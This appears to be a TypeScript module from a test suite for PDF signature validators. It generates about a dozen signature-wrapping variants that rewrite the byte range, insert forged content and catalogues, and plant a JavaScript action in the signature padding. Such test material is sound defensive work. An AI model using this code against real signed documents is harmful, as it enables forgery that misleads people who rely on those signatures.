// Signature wrapping (2019): the padding of the signature makes room. The first signed part stays, the second one moves
// back, and between them stand objects and cross-references of somebody else; a range that the attacker wrote says where
// the second part lies now. The old startxref, which is signed, finds the new cross-references at the old offset.
import {
  bodyOf,
  changed,
  forgedContent,
  pageOf,
  shortHex,
  signatureNumber,
  startxrefOf,
  text,
  zoneOf,
} from './craft.ts';
import type { Attack } from './material.ts';

type Plan = Readonly<{
  name: string;
  /** How the room between the digits and the second part is filled. */
  padding?: ' ' | '%' | '\n' | '\0';
  /** What stands behind the digits within the old dictionary. */
  after?: (moved: number, rest: number) => string;
  /** A dictionary of the signature elsewhere, to which the field leads. */
  copy?: (body: string, range: string, short: string) => string;
  objects?: (pdf: Buffer) => Readonly<Record<number, string>>;
  seen?: Attack['seen'];
}>;

function wrapped(plan: Plan): Attack {
  const { name, seen = 'text' } = plan;
  return { name, seen, make: ({ signed }) => wrap(signed, plan) };
}

function wrap(pdf: Buffer, plan: Plan): Buffer {
  const zone = zoneOf(pdf);
  const { start, next, rest } = zone;
  const section = startxrefOf(pdf);
  const num = signatureNumber(pdf);
  const moved = section + 4000;
  const range = `/ByteRange [0 ${start} ${moved} ${rest}]`;
  const body = bodyOf(pdf, num);
  const objects: Record<number, string> = {
    3: pageOf(pdf, ['/Contents 5 0 R', '/Contents 40 0 R']),
    40: forgedContent,
    ...plan.objects?.(pdf),
  };
  if (plan.copy !== undefined) {
    objects[46] = plan.copy(body, range, shortHex(zone));
    objects[14] = changed(bodyOf(pdf, 14), [[/\/V \d+ 0 R/, '/V 46 0 R']]);
  }
  const after = plan.after?.(moved, rest) ?? ` ${range}>>\nendobj\n`;
  let between = `<${shortHex(zone)}>${after}`;
  const rows: string[] = [];
  for (const [one, value] of Object.entries(objects)) {
    rows.push(`${one} 1\n${String(start + between.length).padStart(10, '0')} 00000 n \n`);
    between += `${one} 0 obj\n${value}\nendobj\n`;
  }
  if (plan.copy === undefined) {
    rows.push(`${num} 1\n${String(offsetOf(pdf, num)).padStart(10, '0')} 00000 n \n`);
  }
  if (plan.copy === undefined) rows.push(`14 1\n${String(offsetOf(pdf, 14)).padStart(10, '0')} 00000 n \n`);
  between = padded(between, section - start, plan.padding ?? ' ');
  const older = /startxref\s+(\d+)/.exec(text(pdf))?.[1] ?? '0';
  between += `xref\n${rows.join('')}trailer\n<</Size 90 /Root 1 0 R /Prev ${older}>>\nstartxref\n${section}\n%%EOF\n`;
  between = padded(between, moved - start, plan.padding ?? ' ');
  return Buffer.concat([pdf.subarray(0, start), Buffer.from(between, 'latin1'), pdf.subarray(next)]);
}

function padded(between: string, to: number, by: string): string {
  if (between.length > to) throw new Error('the padding is too small for this');
  return between.padEnd(to - 1, by) + '\n';
}

function offsetOf(pdf: Buffer, num: number): number {
  return text(pdf).lastIndexOf(`\n${num} 0 obj`) + 1;
}

const rangeElsewhere = (body: string, range: string, short: string): string =>
  changed(body, [[/\/ByteRange \[[^\]]*\]/, range]]).replace(
    /\/Contents <[0-9a-f]*>/,
    `/Contents <${short}>`,
  );

export const signatureWrapping: readonly Attack[] = [
  wrapped({ name: 'a second range after the digits, padded with spaces' }),
  wrapped({ name: 'a second range after the digits, padded with noughts', padding: '\0' }),
  wrapped({ name: 'a second range after the digits, padded with a comment', padding: '%' }),
  wrapped({ name: 'a second range after the digits, padded with line ends', padding: '\n' }),
  wrapped({
    name: 'a second range and the rest of the dictionary as it was',
    after: (moved, rest) => ` /ByteRange [0 1 ${moved} ${rest}] /M (D:20261123082000+07'00')>>\nendobj\n`,
  }),
  wrapped({
    name: 'the dictionary ended early, without a second range',
    after: () => '>>\nendobj\n',
  }),
  wrapped({
    name: 'a copy of the dictionary with the moved range, outside what is signed',
    copy: rangeElsewhere,
  }),
  wrapped({
    name: 'a copy of the dictionary with the old range',
    copy: (body, _range, short) => body.replace(/\/Contents <[0-9a-f]*>/, `/Contents <${short}>`),
  }),
  wrapped({
    name: 'a copy of the dictionary that leads back to the signed digits',
    copy: (_body, range) =>
      `<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${range} /Contents 47 0 R>>`,
    objects: (pdf) => ({ 47: `<${shortHex(zoneOf(pdf))}>` }),
  }),
  wrapped({
    name: 'another catalogue between the parts',
    objects: () => ({ 1: '<</Type /Catalog /Pages 2 0 R /AcroForm 4 0 R /OpenAction [3 0 R /Fit]>>' }),
  }),
  {
    name: 'the second part moved and nothing put between',
    seen: 'bytes',
    make: ({ signed }) => {
      const { start, next } = zoneOf(signed);
      const digits = `<${zoneOf(signed).hex}>${' '.repeat(500)}`;
      return Buffer.concat([signed.subarray(0, start), Buffer.from(digits), signed.subarray(next)]);
    },
  },
  {
    name: 'a program in the padding',
    seen: 'bytes',
    make: ({ signed }) => {
      const zone = zoneOf(signed);
      const digits = `<${shortHex(zone)}>/OpenAction<</S/JavaScript/JS(1)>>`.padEnd(zone.next - zone.start);
      return Buffer.concat([signed.subarray(0, zone.start), Buffer.from(digits), signed.subarray(zone.next)]);
    },
  },
  {
    name: 'other bytes in the padding',
    seen: 'bytes',
    make: ({ signed }) => {
      const zone = zoneOf(signed);
      const changedDigits = shortHex(zone).padEnd(zone.hex.length - 8, '0') + 'deadbeef';
      return Buffer.concat([
        signed.subarray(0, zone.start + 1),
        Buffer.from(changedDigits),
        signed.subarray(zone.next - 1),
      ]);
    },
  },
];
